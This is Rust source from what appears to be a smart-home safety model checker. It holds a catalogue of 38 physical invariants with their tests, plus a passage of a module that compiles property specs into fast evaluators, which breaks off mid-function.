            FansOffWhenSmoke => "Fans should be off when smoke is detected".into(),
            HeaterOffWhenSmoke => "Heaters should be off when smoke is detected".into(),
            SoilMoistureInRange { min, max } => {
                format!("Soil moisture should be within [{min}, {max}]")
            }
            SprinklerOffWhenWet => {
                "The sprinkler should be off when rain/moisture is detected".into()
            }
            WaterValveClosedWhenLeak => {
                "The water valve should be closed when a leak is detected".into()
            }
            LightsOffWhenNooneHome => "Lights should not be on when no one is at home".into(),
            AppliancesOffWhenNooneHome => {
                "Appliances should not be on when no one is at home".into()
            }
            AppliancesOffWhenSleeping => {
                "Appliances should not be on while people are sleeping".into()
            }
            LightsOffWhenSleeping => "Lights should be off while people are sleeping".into(),
            SpeakersQuietWhenSleeping => {
                "Speakers should not be playing while people are sleeping".into()
            }
        }
    }

    /// Table 4 category of this invariant.
    pub fn category(&self) -> &'static str {
        use PhysicalInvariant::*;
        match self {
            TemperatureInRangeWhenHome { .. }
            | HeaterOnWhenCold { .. }
            | HeaterOffWhenHot { .. }
            | AcAndHeaterNotBothOn
            | AcOffWhenCold { .. } => "Thermostat, AC, and Heater",
            MainDoorLockedWhenNooneHome
            | MainDoorLockedWhenSleeping
            | EntranceDoorClosedWhenNooneHome
            | EntranceDoorClosedWhenSleeping
            | NoLockUnlockedInAwayMode
            | GarageDoorClosedAtNight
            | AnyLockLockedWhenNooneHome
            | MainDoorLockedDuringIntrusion => "Lock and door control",
            ModeAwayWhenNooneHome | ModeNotAwayWhenSomeoneHome | ModeNotNightWhenNooneHome => {
                "Location mode"
            }
            AlarmActiveWhenSmoke
            | AlarmActiveWhenCo
            | AlarmActiveWhenIntruder
            | AlarmSilentWhenNoDanger
            | AlarmSilentWhenSleepingNoDanger
            | MainDoorUnlockedDuringFire
            | DoorsOpenableDuringCoAlarm
            | WaterValveOpenDuringFire
            | LightsOnDuringFireAtNight
            | SafetySensorsOnline
            | CameraCapturesIntruder
            | AppliancesOffWhenSmoke
            | FansOffWhenSmoke
            | HeaterOffWhenSmoke => "Security and alarming",
            SoilMoistureInRange { .. } | SprinklerOffWhenWet | WaterValveClosedWhenLeak => {
                "Water and sprinkler"
            }
            LightsOffWhenNooneHome
            | AppliancesOffWhenNooneHome
            | AppliancesOffWhenSleeping
            | LightsOffWhenSleeping
            | SpeakersQuietWhenSleeping => "Others",
        }
    }

    /// Whether `snapshot` violates this invariant.
    pub fn is_violated(&self, snap: &Snapshot) -> bool {
        self.is_violated_with(&SnapshotFacts::new(snap))
    }

    /// [`PhysicalInvariant::is_violated`] against precomputed
    /// [`SnapshotFacts`] — the catalog evaluates all 38 invariants per
    /// explored transition, so the device scans the predicates share are
    /// hoisted out and computed once per snapshot instead of once per
    /// invariant.
    pub fn is_violated_with(&self, facts: &SnapshotFacts) -> bool {
        use PhysicalInvariant::*;
        match self {
            TemperatureInRangeWhenHome { min, max } => {
                facts.anyone_home
                    && (facts.min_temperature.map(|t| t < *min).unwrap_or(false)
                        || facts.max_temperature.map(|t| t > *max).unwrap_or(false))
            }
            HeaterOnWhenCold { threshold } => {
                facts.anyone_home
                    && facts.has_heater
                    && facts.min_temperature.map(|t| t < *threshold).unwrap_or(false)
                    && !facts.heater_on
            }
            HeaterOffWhenHot { threshold } => {
                facts.heater_on && facts.max_temperature.map(|t| t > *threshold).unwrap_or(false)
            }
            AcAndHeaterNotBothOn => facts.heater_on && facts.ac_on,
            AcOffWhenCold { threshold } => {
                facts.ac_on && facts.min_temperature.map(|t| t < *threshold).unwrap_or(false)
            }
            MainDoorLockedWhenNooneHome => !facts.anyone_home && facts.main_lock_unlocked,
            MainDoorLockedWhenSleeping => facts.sleeping && facts.main_lock_unlocked,
            EntranceDoorClosedWhenNooneHome => !facts.anyone_home && facts.entrance_open,
            EntranceDoorClosedWhenSleeping => facts.sleeping && facts.entrance_open,
            NoLockUnlockedInAwayMode => facts.away && facts.any_lock_unlocked,
            GarageDoorClosedAtNight => facts.sleeping && facts.garage_open,
            AnyLockLockedWhenNooneHome => !facts.anyone_home && facts.any_lock_unlocked,
            MainDoorLockedDuringIntrusion => facts.intruder && facts.main_lock_unlocked,
            ModeAwayWhenNooneHome => {
                facts.has_presence_sensor && facts.all_not_present && !facts.away
            }
            ModeNotAwayWhenSomeoneHome => facts.any_present && facts.away,
            ModeNotNightWhenNooneHome => {
                facts.has_presence_sensor && facts.all_not_present && facts.sleeping
            }
            AlarmActiveWhenSmoke => facts.smoke && facts.has_alarm && !facts.alarm_active,
            AlarmActiveWhenCo => facts.co && facts.has_alarm && !facts.alarm_active,
            AlarmActiveWhenIntruder => facts.intruder && facts.has_alarm && !facts.alarm_active,
            AlarmSilentWhenNoDanger => facts.alarm_active && !facts.danger,
            AlarmSilentWhenSleepingNoDanger => {
                facts.sleeping && facts.alarm_active && !facts.danger
            }
            MainDoorUnlockedDuringFire => {
                facts.smoke && facts.anyone_home && facts.has_main_lock && !facts.main_lock_unlocked
            }
            DoorsOpenableDuringCoAlarm => {
                facts.co && facts.anyone_home && facts.has_main_lock && !facts.main_lock_unlocked
            }
            WaterValveOpenDuringFire => facts.smoke && facts.valve_closed,
            LightsOnDuringFireAtNight => {
                facts.smoke && facts.sleeping && facts.has_light && !facts.any_light_on
            }
            SafetySensorsOnline => facts.safety_sensor_offline,
            CameraCapturesIntruder => facts.intruder && facts.has_camera && !facts.camera_captured,
            AppliancesOffWhenSmoke => facts.smoke && facts.appliance_on,
            FansOffWhenSmoke => facts.smoke && facts.fan_on,
            HeaterOffWhenSmoke => facts.smoke && facts.heater_on,
            SoilMoistureInRange { min, max } => {
                facts.soil_min.map(|m| m < *min).unwrap_or(false)
                    || facts.soil_max.map(|m| m > *max).unwrap_or(false)
            }
            SprinklerOffWhenWet => facts.leak && facts.sprinkler_on,
            WaterValveClosedWhenLeak => facts.leak && facts.valve_open,
            LightsOffWhenNooneHome => !facts.anyone_home && facts.any_light_on,
            AppliancesOffWhenNooneHome => !facts.anyone_home && facts.appliance_on,
            AppliancesOffWhenSleeping => facts.sleeping && facts.appliance_on,
            LightsOffWhenSleeping => facts.sleeping && facts.any_light_on,
            SpeakersQuietWhenSleeping => facts.sleeping && facts.speaker_playing,
        }
    }

    /// A linear-temporal-logic rendering of the safe property, in the `[]`
    /// (always) form Spin accepts.  The propositions are named after the
    /// snapshot helpers they correspond to.
    pub fn to_ltl(&self) -> String {
        format!("[] !( {} )", self.violation_proposition())
    }

    /// The propositional rendering of the unsafe state.
    pub fn violation_proposition(&self) -> String {
        use PhysicalInvariant::*;
        match self {
            TemperatureInRangeWhenHome { min, max } => {
                format!("anyone_home && (temperature < {min} || temperature > {max})")
            }
            HeaterOnWhenCold { threshold } => {
                format!("anyone_home && temperature < {threshold} && heater == off")
            }
            HeaterOffWhenHot { threshold } => format!("temperature > {threshold} && heater == on"),
            AcAndHeaterNotBothOn => "heater == on && ac == on".into(),
            AcOffWhenCold { threshold } => format!("temperature < {threshold} && ac == on"),
            MainDoorLockedWhenNooneHome => "!anyone_home && main_door == unlocked".into(),
            MainDoorLockedWhenSleeping => "mode == Night && main_door == unlocked".into(),
            EntranceDoorClosedWhenNooneHome => "!anyone_home && entrance_door == open".into(),
            EntranceDoorClosedWhenSleeping => "mode == Night && entrance_door == open".into(),
            NoLockUnlockedInAwayMode => "mode == Away && any_lock == unlocked".into(),
            GarageDoorClosedAtNight => "mode == Night && garage_door == open".into(),
            AnyLockLockedWhenNooneHome => "!anyone_home && any_lock == unlocked".into(),
            MainDoorLockedDuringIntrusion => {
                "!anyone_home && motion == active && main_door == unlocked".into()
            }
            ModeAwayWhenNooneHome => "all_not_present && mode != Away".into(),
            ModeNotAwayWhenSomeoneHome => "any_present && mode == Away".into(),
            ModeNotNightWhenNooneHome => "all_not_present && mode == Night".into(),
            AlarmActiveWhenSmoke => "smoke == detected && alarm == off".into(),
            AlarmActiveWhenCo => "co == detected && alarm == off".into(),
            AlarmActiveWhenIntruder => "!anyone_home && motion == active && alarm == off".into(),
            AlarmSilentWhenNoDanger => "alarm != off && !danger".into(),
            AlarmSilentWhenSleepingNoDanger => "mode == Night && alarm != off && !danger".into(),
            MainDoorUnlockedDuringFire => {
                "smoke == detected && anyone_home && main_door == locked".into()
            }
            DoorsOpenableDuringCoAlarm => {
                "co == detected && anyone_home && main_door == locked".into()
            }
            WaterValveOpenDuringFire => "smoke == detected && valve == closed".into(),
            LightsOnDuringFireAtNight => {
                "smoke == detected && mode == Night && lights == off".into()
            }
            SafetySensorsOnline => "smoke_detector_offline || co_detector_offline".into(),
            CameraCapturesIntruder => "!anyone_home && motion == active && camera == idle".into(),
            AppliancesOffWhenSmoke => "smoke == detected && appliance == on".into(),
            FansOffWhenSmoke => "smoke == detected && fan == on".into(),
            HeaterOffWhenSmoke => "smoke == detected && heater == on".into(),
            SoilMoistureInRange { min, max } => format!("moisture < {min} || moisture > {max}"),
            SprinklerOffWhenWet => "water == wet && sprinkler == on".into(),
            WaterValveClosedWhenLeak => "water == wet && valve == open".into(),
            LightsOffWhenNooneHome => "!anyone_home && lights == on".into(),
            AppliancesOffWhenNooneHome => "!anyone_home && appliance == on".into(),
            AppliancesOffWhenSleeping => "mode == Night && appliance == on".into(),
            LightsOffWhenSleeping => "mode == Night && lights == on".into(),
            SpeakersQuietWhenSleeping => "mode == Night && speaker == playing".into(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::snapshot::DeviceSnapshot;
    use iotsan_devices::DeviceId;
    use iotsan_ir::Value;

    fn dev(id: u32, cap: &str, role: DeviceRole, attrs: &[(&str, Value)]) -> DeviceSnapshot {
        DeviceSnapshot {
            id: DeviceId(id),
            label: format!("d{id}"),
            capability: cap.into(),
            role,
            attributes: attrs.iter().map(|(n, v)| (n.to_string(), v.clone())).collect(),
            online: true,
        }
    }

    fn s(v: &str) -> Value {
        Value::Str(v.into())
    }

    #[test]
    fn there_are_thirty_eight_default_invariants() {
        assert_eq!(PhysicalInvariant::defaults().len(), 38);
    }

    #[test]
    fn table4_category_counts_match_paper() {
        let mut counts = std::collections::BTreeMap::new();
        for inv in PhysicalInvariant::defaults() {
            *counts.entry(inv.category()).or_insert(0usize) += 1;
        }
        assert_eq!(counts["Thermostat, AC, and Heater"], 5);
        assert_eq!(counts["Lock and door control"], 8);
        assert_eq!(counts["Location mode"], 3);
        assert_eq!(counts["Security and alarming"], 14);
        assert_eq!(counts["Water and sprinkler"], 3);
        assert_eq!(counts["Others"], 5);
    }

    #[test]
    fn ac_and_heater_both_on_is_violation() {
        let snap = Snapshot {
            mode: "Home".into(),
            devices: vec![
                dev(0, "switch", DeviceRole::Heater, &[("switch", s("on"))]),
                dev(1, "switch", DeviceRole::AirConditioner, &[("switch", s("on"))]),
            ],
            time_seconds: 0,
        };
        assert!(PhysicalInvariant::AcAndHeaterNotBothOn.is_violated(&snap));
        let snap_ok = Snapshot {
            mode: "Home".into(),
            devices: vec![
                dev(0, "switch", DeviceRole::Heater, &[("switch", s("on"))]),
                dev(1, "switch", DeviceRole::AirConditioner, &[("switch", s("off"))]),
            ],
            time_seconds: 0,
        };
        assert!(!PhysicalInvariant::AcAndHeaterNotBothOn.is_violated(&snap_ok));
    }

    #[test]
    fn main_door_unlocked_when_away_is_violation() {
        let snap = Snapshot {
            mode: "Away".into(),
            devices: vec![
                dev(0, "lock", DeviceRole::MainDoorLock, &[("lock", s("unlocked"))]),
                dev(1, "presenceSensor", DeviceRole::Generic, &[("presence", s("not present"))]),
            ],
            time_seconds: 0,
        };
        assert!(PhysicalInvariant::MainDoorLockedWhenNooneHome.is_violated(&snap));
        assert!(PhysicalInvariant::NoLockUnlockedInAwayMode.is_violated(&snap));
        assert!(PhysicalInvariant::AnyLockLockedWhenNooneHome.is_violated(&snap));
    }

    #[test]
    fn door_unlocked_while_sleeping_is_violation() {
        let snap = Snapshot {
            mode: "Night".into(),
            devices: vec![dev(0, "lock", DeviceRole::MainDoorLock, &[("lock", s("unlocked"))])],
            time_seconds: 0,
        };
        assert!(PhysicalInvariant::MainDoorLockedWhenSleeping.is_violated(&snap));
    }

    #[test]
    fn alarm_must_sound_on_smoke() {
        let snap = Snapshot {
            mode: "Home".into(),
            devices: vec![
                dev(0, "smokeDetector", DeviceRole::Generic, &[("smoke", s("detected"))]),
                dev(1, "alarm", DeviceRole::Alarm, &[("alarm", s("off"))]),
            ],
            time_seconds: 0,
        };
        assert!(PhysicalInvariant::AlarmActiveWhenSmoke.is_violated(&snap));
        let snap_ok = Snapshot {
            mode: "Home".into(),
            devices: vec![
                dev(0, "smokeDetector", DeviceRole::Generic, &[("smoke", s("detected"))]),
                dev(1, "alarm", DeviceRole::Alarm, &[("alarm", s("siren"))]),
            ],
            time_seconds: 0,
        };
        assert!(!PhysicalInvariant::AlarmActiveWhenSmoke.is_violated(&snap_ok));
    }

    #[test]
    fn water_valve_closed_during_fire_is_violation() {
        let snap = Snapshot {
            mode: "Home".into(),
            devices: vec![
                dev(0, "smokeDetector", DeviceRole::Generic, &[("smoke", s("detected"))]),
                dev(1, "valve", DeviceRole::WaterValve, &[("valve", s("closed"))]),
            ],
            time_seconds: 0,
        };
        assert!(PhysicalInvariant::WaterValveOpenDuringFire.is_violated(&snap));
    }

    #[test]
    fn temperature_range_checks_presence() {
        let make = |mode: &str, temp: i64| Snapshot {
            mode: mode.into(),
            devices: vec![dev(
                0,
                "temperatureMeasurement",
                DeviceRole::Generic,
                &[("temperature", Value::Int(temp))],
            )],
            time_seconds: 0,
        };
        let inv = PhysicalInvariant::TemperatureInRangeWhenHome { min: 50.0, max: 90.0 };
        assert!(inv.is_violated(&make("Home", 30)));
        assert!(inv.is_violated(&make("Home", 95)));
        assert!(!inv.is_violated(&make("Home", 75)));
        // Away → nobody home → not a violation even if cold.
        assert!(!inv.is_violated(&make("Away", 30)));
    }

    #[test]
    fn offline_safety_sensor_is_violation() {
        let mut d = dev(0, "smokeDetector", DeviceRole::Generic, &[("smoke", s("clear"))]);
        d.online = false;
        let snap = Snapshot { mode: "Home".into(), devices: vec![d], time_seconds: 0 };
        assert!(PhysicalInvariant::SafetySensorsOnline.is_violated(&snap));
    }

    #[test]
    fn heater_must_run_when_cold() {
        let snap = Snapshot {
            mode: "Home".into(),
            devices: vec![
                dev(0, "switch", DeviceRole::Heater, &[("switch", s("off"))]),
                dev(
                    1,
                    "temperatureMeasurement",
                    DeviceRole::Generic,
                    &[("temperature", Value::Int(30))],
                ),
            ],
            time_seconds: 0,
        };
        assert!(PhysicalInvariant::HeaterOnWhenCold { threshold: 50.0 }.is_violated(&snap));
    }

    #[test]
    fn ltl_rendering_is_always_form() {
        for inv in PhysicalInvariant::defaults() {
            let ltl = inv.to_ltl();
            assert!(ltl.starts_with("[] !("), "{ltl}");
            assert!(!inv.description().is_empty());
        }
    }

    #[test]
    fn empty_snapshot_violates_nothing() {
        let snap = Snapshot { mode: "Home".into(), devices: vec![], time_seconds: 0 };
        for inv in PhysicalInvariant::defaults() {
            assert!(!inv.is_violated(&snap), "{:?} violated on empty snapshot", inv);
        }
    }
}
