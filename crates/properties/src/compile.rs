//! Compilation of [`PropertySpec`](crate::PropertySpec)s into slot-indexed, zero-allocation
//! evaluators.
//!
//! The checker evaluates every property once per explored transition, so the
//! interpreted [`crate::Expr::eval`] walk (selector matching, attribute-name
//! lookups) is far too slow for the hot path.  At install time the
//! [`CompiledPropertySet`] resolves everything that is fixed by the installed
//! system against a [`CompileTarget`]:
//!
//! * device selectors become lists of `(device index, attribute index)`
//!   *slots* into the snapshot's fixed layout — no capability/role/attribute
//!   string matching remains at evaluation time;
//! * existence tests ([`crate::Atom::HasDevice`]) fold to constants;
//! * formulas become flat postfix programs over a shared, deduplicated atom
//!   table: each distinct atom is evaluated once per transition into a slot
//!   vector, then every property's program runs pure boolean ops.
//!
//! Evaluation reuses an [`EvalScratch`] (slot vector + program stack), so a
//! steady-state transition check performs no heap allocation.  Leads-to
//! obligations are tracked in caller-owned per-property monitor counters that
//! are part of the model-checker state identity.

use crate::registry::PropertySet;
use crate::snapshot::{
    has_conflicting_commands, has_repeated_commands, DeviceRole, Snapshot, StepObservation,
};
use crate::spec::{Atom, DeviceSelect, Expr, Modality, PropertyId};

/// One installed device, as the compiler sees it: identity for selector
/// matching plus the attribute layout of its snapshot entry.
#[derive(Debug, Clone, PartialEq)]
pub struct TargetDevice {
    /// The raw device id (`DeviceId.0`), used to match step command records.
    pub id: u32,
    /// User-facing label.
    pub label: String,
    /// Spec capability name.
    pub capability: String,
    /// User-assigned role.
    pub role: DeviceRole,
    /// Attribute names, in the exact order they appear in the device's
    /// snapshot entry (slot positions are resolved against this).
    pub attributes: Vec<String>,
}

/// The installed-system layout properties are compiled against.  Device
/// positions must match the position of each device in the snapshots later
/// passed to [`CompiledPropertySet::check_transition`].
#[derive(Debug, Clone, Default, PartialEq)]
pub struct CompileTarget {
    /// The installed devices, in snapshot order.
    pub devices: Vec<TargetDevice>,
}

impl CompileTarget {
    /// A target over the given devices.
    pub fn new(devices: Vec<TargetDevice>) -> Self {
        CompileTarget { devices }
    }

    /// Derives the target from a snapshot's layout (tests and standalone
    /// checking; installed systems build their target once from the device
    /// table).
    pub fn from_snapshot(snapshot: &Snapshot) -> Self {
        CompileTarget {
            devices: snapshot
                .devices
                .iter()
                .map(|d| TargetDevice {
                    id: d.id.0,
                    label: d.label.clone(),
                    capability: d.capability.clone(),
                    role: d.role,
                    attributes: d.attributes.iter().map(|(n, _)| n.clone()).collect(),
                })
                .collect(),
        }
    }

    /// `(device position, attribute position)` slots for every selected
    /// device that has the attribute.
    fn attr_slots(&self, select: &DeviceSelect, attribute: &str) -> Vec<(u16, u8)> {
        let mut out = Vec::new();
        for (di, device) in self.devices.iter().enumerate() {
            if !select.matches(&device.label, &device.capability, device.role) {
                continue;
            }
            if let Some(ai) = device.attributes.iter().position(|a| a == attribute) {
                out.push((di as u16, ai as u8));
            }
        }
        out
    }

    /// Positions of every selected device.
    fn device_slots(&self, select: &DeviceSelect) -> Vec<u16> {
        self.devices
            .iter()
            .enumerate()
            .filter(|(_, d)| select.matches(&d.label, &d.capability, d.role))
            .map(|(i, _)| i as u16)
            .collect()
    }

    /// Raw device ids of every selected device.
    fn device_ids(&self, select: &DeviceSelect) -> Vec<u32> {
        self.devices
            .iter()
            .filter(|d| select.matches(&d.label, &d.capability, d.role))
            .map(|d| d.id)
            .collect()
    }
}

/// A compiled atom: every name resolved to slots, selectors gone.
#[derive(Debug, Clone, PartialEq)]
enum CAtom {
    /// Constant folded at compile time (existence tests, empty selections).
    Const(bool),
    /// The location mode equals the name (case-insensitive).
    ModeIs(String),
    /// Some slot's value loosely equals the string.
    AnyAttrEq {
        slots: Vec<(u16, u8)>,
        value: String,
    },
    /// Every slot's value loosely equals the string (vacuously true).
    AllAttrEq {
        slots: Vec<(u16, u8)>,
        value: String,
    },
    /// Some listed device is offline.
    AnyOffline {
        devices: Vec<u16>,
    },
    /// Some slot reads a number below the threshold.
    AnyBelow {
        slots: Vec<(u16, u8)>,
        threshold: f64,
    },
    /// Some slot reads a number above the threshold.
    AnyAbove {
        slots: Vec<(u16, u8)>,
        threshold: f64,
    },
    /// Step detectors (see [`crate::snapshot`]).
    Conflicting,
    Repeated,
    DisallowedNetwork,
    SmsMismatch,
    Unsubscribe,
    FakeEvent,
    CommandFailed,
    UserNotified,
    /// A command with the given name reached one of the listed device ids
    /// (`None` = any device).
    CommandIssued {
        command: String,
        devices: Option<Vec<u32>>,
    },
}

impl CAtom {
    fn reads_state(&self) -> bool {
        matches!(
            self,
            CAtom::ModeIs(_)
                | CAtom::AnyAttrEq { .. }
                | CAtom::AllAttrEq { .. }
                | CAtom::AnyOffline { .. }
                | CAtom::AnyBelow { .. }
                | CAtom::AnyAbove { .. }
        )
    }

    /// Evaluates the atom.  `snapshot` is only read by state atoms, which
    /// the caller never schedules without one.
    fn eval(&self, snapshot: &Snapshot, step: &StepObservation) -> bool {
        match self {
            CAtom::Const(v) => *v,
            CAtom::ModeIs(mode) => snapshot.mode.eq_ignore_ascii_case(mode),
            CAtom::AnyAttrEq { slots, value } => slots
                .iter()
                .any(|&(d, a)| snapshot.devices[d as usize].attributes[a as usize].1.eq_str(value)),
            CAtom::AllAttrEq { slots, value } => slots
                .iter()
                .all(|&(d, a)| snapshot.devices[d as usize].attributes[a as usize].1.eq_str(value)),
            CAtom::AnyOffline { devices } => {
                devices.iter().any(|&d| !snapshot.devices[d as usize].online)
            }
            CAtom::AnyBelow { slots, threshold } => slots.iter().any(|&(d, a)| {
                snapshot.devices[d as usize].attributes[a as usize]
                    .1
                    .as_number()
                    .map(|v| v < *threshold)
                    .unwrap_or(false)
            }),
            CAtom::AnyAbove { slots, threshold } => slots.iter().any(|&(d, a)| {
                snapshot.devices[d as usize].attributes[a as usize]
                    .1
                    .as_number()
                    .map(|v| v > *threshold)
                    .unwrap_or(false)
            }),
            CAtom::Conflicting => has_conflicting_commands(step),
            CAtom::Repeated => has_repeated_commands(step),
            CAtom::DisallowedNetwork => step.network.iter().any(|n| !n.allowed),
            CAtom::SmsMismatch => step.sms_recipient_mismatch(),
            CAtom::Unsubscribe => !step.unsubscribes.is_empty(),
            CAtom::FakeEvent => !step.fake_events.is_empty(),
            CAtom::CommandFailed => step.command_failures > 0,
            CAtom::UserNotified => !step.messages.is_empty(),
            CAtom::CommandIssued { command, devices } => step.commands.iter().any(|c| {
                c.command == *command
                    && devices.as_ref().map(|ids| ids.contains(&c.device.0)).unwrap_or(true)
            }),
        }
    }
}

/// One postfix program instruction.
#[derive(Debug, Clone, Copy, PartialEq)]
enum Op {
    /// Push the atom slot's value.
    Push(u16),
    /// Pop one, push its negation.
    Not,
    /// Pop two, push the conjunction.
    And,
    /// Pop two, push the disjunction.
    Or,
}

/// A program is a range into the shared op tape.
#[derive(Debug, Clone, Copy, PartialEq)]
struct Program {
    start: u32,
    len: u32,
}

/// How a compiled property decides violations.
#[derive(Debug, Clone, PartialEq)]
enum CompiledKind {
    /// Violated when the program evaluates true.
    Check { program: Program },
    /// Bounded response: a trigger opens an obligation the response must
    /// discharge within `within` further evaluated steps; the countdown
    /// lives in the caller's monitor slot.
    LeadsTo { trigger: Program, response: Program, within: u8, monitor: u16 },
}

/// One property compiled against an installed system.
#[derive(Debug, Clone, PartialEq)]
pub struct CompiledProperty {
    id: PropertyId,
    kind: CompiledKind,
    step_only: bool,
}

impl CompiledProperty {
    /// The property's id in the source [`PropertySet`].
    pub fn id(&self) -> PropertyId {
        self.id
    }

    /// True when the property reads only the step observation (and is
    /// therefore evaluated on non-quiescent steps too).
    pub fn step_only(&self) -> bool {
        self.step_only
    }
}

/// Reusable evaluation buffers: one bool per distinct atom plus the program
/// stack.  Per-worker, cleared (never reallocated) on every transition.
#[derive(Debug, Clone, Default)]
pub struct EvalScratch {
    slots: Vec<bool>,
    stack: Vec<bool>,
}

/// A [`PropertySet`] compiled against one installed system.
#[derive(Debug, Clone, PartialEq)]
pub struct CompiledPropertySet {
    atoms: Vec<CAtom>,
    ops: Vec<Op>,
    props: Vec<CompiledProperty>,
    /// Number of leads-to monitor slots the caller must carry in its state.
    monitor_count: usize,
}

impl CompiledPropertySet {
    /// Compiles every spec in `set` against the target layout.
    pub fn compile(set: &PropertySet, target: &CompileTarget) -> Self {
        let mut c = Compiler { target, atoms: Vec::new(), ops: Vec::new() };
        let mut props = Vec::new();
        let mut monitor_count = 0usize;
        for spec in set.specs() {
            let step_only = spec.step_only();
            let kind = match &spec.modality {
                Modality::Never(e) => CompiledKind::Check { program: c.compile_expr(e) },
                Modality::Always(e) => {
                    let program = c.compile_negated(e);
                    CompiledKind::Check { program }
                }
                Modality::LeadsTo(l) => {
                    let trigger = c.compile_expr(&l.trigger);
                    let response = c.compile_expr(&l.response);
                    assert!(
                        l.within <= u32::from(u8::MAX),
                        "property {} ({}): leads-to `within` is {} but the monitor bound is 255 \
                         (bounded search depths are far smaller)",
                        spec.property_id(),
                        spec.name,
                        l.within
                    );
                    if l.within == 0 {
                        CompiledKind::LeadsTo { trigger, response, within: 0, monitor: u16::MAX }
                    } else {
                        let monitor = monitor_count as u16;
                        monitor_count += 1;
                        CompiledKind::LeadsTo { trigger, response, within: l.within as u8, monitor }
                    }
                }
            };
            props.push(CompiledProperty { id: spec.property_id(), kind, step_only });
        }
        CompiledPropertySet { atoms: c.atoms, ops: c.ops, props, monitor_count }
    }

    /// The number of monitor slots leads-to properties with `within > 0`
    /// need; the model checker carries this many `u8` countdown counters in
    /// its state vector (all zero initially).
    pub fn monitor_count(&self) -> usize {
        self.monitor_count
    }

    /// The compiled properties, in set order.
    pub fn properties(&self) -> &[CompiledProperty] {
        &self.props
    }

    /// Number of distinct atoms shared by all programs.
    pub fn atom_count(&self) -> usize {
        self.atoms.len()
    }

    /// Evaluates every property at a quiescent point (both the physical
    /// snapshot and the step observation are visible), appending violated
    /// ids to `out` and updating leads-to monitors in place.
    pub fn check_transition(
        &self,
        snapshot: &Snapshot,
        step: &StepObservation,
        monitors: &mut [u8],
        scratch: &mut EvalScratch,
        out: &mut Vec<PropertyId>,
    ) {
        self.fill_slots(Some(snapshot), step, scratch);
        for prop in &self.props {
            self.check_one(prop, monitors, scratch, out);
        }
    }

    /// Evaluates only the step-only properties (the strict-concurrency
    /// design's non-quiescent steps, where physical-state invariants are
    /// deferred until the pending-event queue drains).
    pub fn check_step_only(
        &self,
        step: &StepObservation,
        monitors: &mut [u8],
        scratch: &mut EvalScratch,
        out: &mut Vec<PropertyId>,
    ) {
        self.fill_slots(None, step, scratch);
        for prop in &self.props {
            if prop.step_only {
                self.check_one(prop, monitors, scratch, out);
            }
        }
    }

    fn check_one(
        &self,
        prop: &CompiledProperty,
        monitors: &mut [u8],
        scratch: &mut EvalScratch,
        out: &mut Vec<PropertyId>,
    ) {
        match &prop.kind {
            CompiledKind::Check { program } => {
                if self.run(*program, scratch) {
                    out.push(prop.id);
                }
            }
            CompiledKind::LeadsTo { trigger, response, within, monitor } => {
                let triggered = self.run(*trigger, scratch);
                let responded = self.run(*response, scratch);
                if *within == 0 {
                    if triggered && !responded {
                        out.push(prop.id);
                    }
                    return;
                }
                let slot = &mut monitors[*monitor as usize];
                if responded {
                    // A response discharges every open obligation at once.
                    *slot = 0;
                    return;
                }
                let mut violated = false;
                if *slot > 0 {
                    *slot -= 1;
                    if *slot == 0 {
                        violated = true;
                    }
                }
                // The counter tracks the *earliest* open obligation — the
                // first deadline to expire.  A re-trigger while one is
                // pending must therefore never refresh the countdown (that
                // would silently extend the first obligation's deadline and
                // miss its violation); a new countdown starts only when no
                // obligation is open (including right after one just
                // expired — the new trigger stands on its own).
                if triggered && *slot == 0 {
                    *slot = *within;
                }
                if violated {
                    out.push(prop.id);
                }
            }
        }
    }

    /// Evaluates each distinct atom once into the slot vector.  State atoms
    /// are skipped when no snapshot is given (their slots are then never read
    /// — only step-only programs run).
    fn fill_slots(
        &self,
        snapshot: Option<&Snapshot>,
        step: &StepObservation,
        scratch: &mut EvalScratch,
    ) {
        scratch.slots.clear();
        scratch.slots.resize(self.atoms.len(), false);
        for (slot, atom) in scratch.slots.iter_mut().zip(&self.atoms) {
            match snapshot {
                Some(snap) => *slot = atom.eval(snap, step),
                None if !atom.reads_state() => *slot = atom.eval(&EMPTY_SNAPSHOT, step),
                None => {}
            }
        }
    }

    fn run(&self, program: Program, scratch: &mut EvalScratch) -> bool {
        let ops = &self.ops[program.start as usize..(program.start + program.len) as usize];
        let stack = &mut scratch.stack;
        stack.clear();
        for op in ops {
            match op {
                Op::Push(slot) => stack.push(scratch.slots[*slot as usize]),
                Op::Not => {
                    let v = stack.pop().expect("program underflow");
                    stack.push(!v);
                }
                Op::And => {
                    let b = stack.pop().expect("program underflow");
                    let a = stack.pop().expect("program underflow");
                    stack.push(a && b);
                }
                Op::Or => {
                    let b = stack.pop().expect("program underflow");
                    let a = stack.pop().expect("program underflow");
                    stack.push(a || b);
                }
            }
        }
        stack.pop().expect("empty program")
    }
}

/// A snapshot that is never read (placeholder for step-only evaluation).
static EMPTY_SNAPSHOT: Snapshot =
    Snapshot { mode: String::new(), devices: Vec::new(), time_seconds: 0 };

struct Compiler<'a> {
    target: &'a CompileTarget,
    atoms: Vec<CAtom>,
    ops: Vec<Op>,
}

impl Compiler<'_> {
    fn slot(&mut self, atom: CAtom) -> u16 {
        if let Some(pos) = self.atoms.iter().position(|a| *a == atom) {
            return pos as u16;
        }
        assert!(
            self.atoms.len() <= u16::MAX as usize,
            "property set exceeds {} distinct atoms",
            u16::MAX as usize + 1
        );
        self.atoms.push(atom);
        (self.atoms.len() - 1) as u16
    }

    fn compile_expr(&mut self, expr: &Expr) -> Program {
        let start = self.ops.len() as u32;
        self.emit(expr);
        Program { start, len: self.ops.len() as u32 - start }
    }

    fn compile_negated(&mut self, expr: &Expr) -> Program {
        let start = self.ops.len() as u32;
        self.emit(expr);
        self.ops.push(Op::Not);
        Program { start, len: self.ops.len() as u32 - start }
    }

    fn emit(&mut self, expr: &Expr) {
        match expr {
            Expr::Atom(atom) => self.emit_atom(atom),
            Expr::Not(e) => {
                self.emit(e);
                self.ops.push(Op::Not);
            }
            Expr::All(es) => self.emit_nary(es, Op::And, true),
            Expr::AnyOf(es) => self.emit_nary(es, Op::Or, false),
        }
    }

    fn emit_nary(&mut self, es: &[Expr], op: Op, empty: bool) {
        match es.split_first() {
            None => {
                let slot = self.slot(CAtom::Const(empty));
                self.ops.push(Op::Push(slot));
            }
            Some((first, rest)) => {
                self.emit(first);
                for e in rest {
                    self.emit(e);
                    self.ops.push(op);
                }
            }
        }
    }

    fn emit_atom(&mut self, atom: &Atom) {
        let lowered = match atom {
            Atom::ModeIs(mode) => CAtom::ModeIs(mode.clone()),
